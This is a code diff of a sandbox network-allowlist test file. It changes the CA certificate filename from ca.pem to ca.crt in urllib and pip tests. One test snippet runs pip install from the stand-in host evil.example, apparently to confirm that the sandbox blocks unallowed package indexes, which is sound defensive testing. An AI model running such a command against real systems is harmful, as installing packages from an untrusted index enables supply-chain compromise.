@@ -25,7 +25,7 @@ async def test_urllib_over_tls(allow: Allow, hosts: Hosts) -> None:
     executor = await allow(entry(server))
     code = f"""
     import ssl, urllib.request
-    context = ssl.create_default_context(cafile="ca.pem")
+    context = ssl.create_default_context(cafile="ca.crt")
     with urllib.request.urlopen("https://ok.example:{server.port}/a?b", context=context) as answer:
         print(answer.status, *answer.read().decode().splitlines()[0:3:2])
     try:
@@ -85,7 +85,7 @@ async def test_pip(allow: Allow, hosts: Hosts, tmp_path: Path, backend: Backend)
     server = hosts.serve(index(tmp_path / "wheels"), "index.example", tls=True)
     executor = await allow(entry(server, "index.example"), timeout=50)
     code = f"""
-    python3 -m pip install --quiet --no-deps --cert ca.pem --target here \
+    python3 -m pip install --quiet --no-deps --cert ca.crt --target here \
         --index-url https://index.example:{server.port}/simple tinywheel || exit 1
     PYTHONPATH=here python3 -c 'import tinywheel; print(tinywheel.answer)'
     """
@@ -95,7 +95,7 @@ async def test_pip(allow: Allow, hosts: Hosts, tmp_path: Path, backend: Backend)
     assert (result.exit_code, result.output.splitlines()[-1]) == (0, "42"), result
     assert {each.host for each in result.connections} == {"index.example"}
     elsewhere = """
-    python3 -m pip install --no-deps --disable-pip-version-check --retries 0 --cert ca.pem --target there \
+    python3 -m pip install --no-deps --disable-pip-version-check --retries 0 --cert ca.crt --target there \
         --index-url https://evil.example/simple tinywheel
     """
     result = await run(executor, elsewhere, "sh")
